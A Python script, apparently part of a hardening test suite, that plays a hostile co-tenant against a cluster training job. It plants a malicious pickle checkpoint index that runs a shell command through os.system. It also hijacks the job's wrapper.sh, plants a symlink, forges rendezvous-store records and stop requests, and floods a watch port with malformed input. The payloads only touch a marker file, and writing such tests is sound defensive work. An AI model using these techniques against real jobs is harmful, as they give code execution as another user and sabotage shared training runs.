"""What another user of the cluster tries against a job they do not own (bench/hostile.py runs it as that user).

    stranger.py plant CKPT_DIR MARKER        a generation whose DCP index, once unpickled, touches MARKER
    stranger.py swap RUN_DIR MARKER          the run's wrapper replaced by one that touches MARKER
    stranger.py link RUNS_ROOT TARGET        suspects.jsonl in the runs root, a link to TARGET
    stranger.py store HOST PORT              forged values in the job's rendezvous store (torch's TCPStore)
    stranger.py watch HOST PORT SECONDS      the watch port: nested brackets, refused hellos, silent and endless
                                             connections, for SECONDS

Each prints one JSON object: what it did. Only the standard library and, for
`store`, torch.distributed (the store's own client, as anyone could use it).
"""

from __future__ import annotations

import json
import os
import pickle
import socket
import sys
import threading
import time


class Payload:
    """Unpickled by whoever loads the planted index: runs the stranger's command as them."""

    def __init__(self, marker: str) -> None:
        self.marker = marker

    def __reduce__(self) -> tuple[object, tuple[str]]:
        return (os.system, (f"touch {self.marker}",))


def plant(directory: str, marker: str) -> dict[str, object]:
    generation = os.path.join(directory, "step-00000500")
    os.makedirs(generation, exist_ok=True)
    index = os.path.join(generation, ".metadata")
    with open(index, "wb") as fh:
        fh.write(pickle.dumps(Payload(marker)))
    manifest = {"format": "clusterctl-checkpoint/1", "step": 500, "world_size": 4, "ranks": [{}, {}, {}, {}],
                "mode": "sync", "shards": {".metadata": {"rank": 0, "size": os.path.getsize(index), "checksum": "0"}}}
    with open(os.path.join(generation, "manifest.json"), "w") as fh:
        json.dump(manifest, fh)
    os.chmod(directory, 0o777)
    return {"planted": generation}


def swap(run_dir: str, marker: str) -> dict[str, object]:
    wrapper = os.path.join(run_dir, "wrapper.sh")
    try:
        os.rename(wrapper, wrapper + ".theirs")
    except OSError as exc:
        return {"swapped": False, "why": str(exc)}
    with open(wrapper, "w") as fh:
        fh.write(f"#!/bin/bash\ntouch {marker}\nexec bash {wrapper}.theirs \"$@\"\n")
    os.chmod(wrapper, 0o755)
    return {"swapped": True}


def link(root: str, target: str) -> dict[str, object]:
    os.symlink(target, os.path.join(root, "suspects.jsonl"))
    return {"linked": target}


def store(host: str, port: int) -> dict[str, object]:
    from datetime import timedelta

    import torch.distributed as dist

    client = dist.TCPStore(host, port, is_master=False, timeout=timedelta(seconds=20), wait_for_workers=False,
                           use_libuv=True)
    forged_record = {"rank": 2, "world_size": 4, "host": "node2", "pid": 1, "proof": "0" * 64,
                     "preflight": [{"name": "gpu", "ok": False, "detail": "ECC errors (forged)"}]}
    client.add("clusterctl/arrived", -1)  # hold the controller, as the field report did
    for key in ("clusterctl/reg/2", "clusterctl/reg/2/dup2"):
        client.set(key, json.dumps(forged_record))
    client.set("clusterctl/verdict", json.dumps({"ok": False, "code": 83, "message": "straggler (forged)",
                                                 "culprits": [{"rank": 1, "host": "node1"}]}))
    client.set("clusterctl/postcheck", json.dumps({"ok": False, "code": 83, "message": "straggler: forged",
                                                   "culprits": [{"host": "node2"}, {"host": "node9"}]}))
    client.set("clusterctl/error/2", "RuntimeError: CUDA error: uncorrectable ECC error encountered (forged)")
    client.append("clusterctl/errored", "2,x,-1,")
    client.append("clusterctl/duplicates", "x:y,1:,-1:2,99:2,\xff,")
    client.append("clusterctl/returned", "0:0,1:0,2:0,3:0,")
    for _ in range(5):  # a stop request, again and again: each would force a save and a new job
        client.set("clusterctl/stop", "now")
        time.sleep(0.2)
    client.add("clusterctl/arrived", 1)
    return {"store": "forged verdict, postcheck, error report, lists, registration, stop x5"}


def watch(host: str, port: int, seconds: float) -> dict[str, object]:
    stop = time.monotonic() + seconds
    tried = [0]
    lock = threading.Lock()

    def one(kind: int) -> None:
        held: list[socket.socket] = []
        while time.monotonic() < stop:
            try:
                conn = socket.create_connection((host, port), timeout=2)
            except OSError:
                time.sleep(0.01)
                continue
            with lock:
                tried[0] += 1
            try:
                if kind == 0:  # silent, held open until the server's deadline
                    held.append(conn)
                    if len(held) > 40:
                        held.pop(0).close()
                    continue
                if kind == 1:  # one line nested past the JSON parser's depth
                    conn.sendall(b"[" * 3001 + b"\n")
                elif kind == 2:  # a hello with a guessed secret, naming a node with a long name
                    conn.sendall((json.dumps({"kind": "hello", "node": "node1" + "x" * 2000, "pid": 1, "mac": "0" * 64})
                                  + "\n").encode())
                else:  # bytes without end
                    conn.sendall(b"A" * 65536)
            except OSError:
                pass
            conn.close()
        for conn in held:
            conn.close()

    workers = [threading.Thread(target=one, args=(i % 4,), daemon=True) for i in range(8)]
    for worker in workers:
        worker.start()
    for worker in workers:
        worker.join(seconds + 10)
    return {"connections": tried[0]}


def main() -> None:
    what, *args = sys.argv[1:]
    if what == "plant":
        out = plant(args[0], args[1])
    elif what == "swap":
        out = swap(args[0], args[1])
    elif what == "link":
        out = link(args[0], args[1])
    elif what == "store":
        out = store(args[0], int(args[1]))
    elif what == "watch":
        out = watch(args[0], int(args[1]), float(args[2]))
    else:
        raise SystemExit(f"unknown attack {what!r}")
    print(json.dumps(out))


if __name__ == "__main__":
    main()
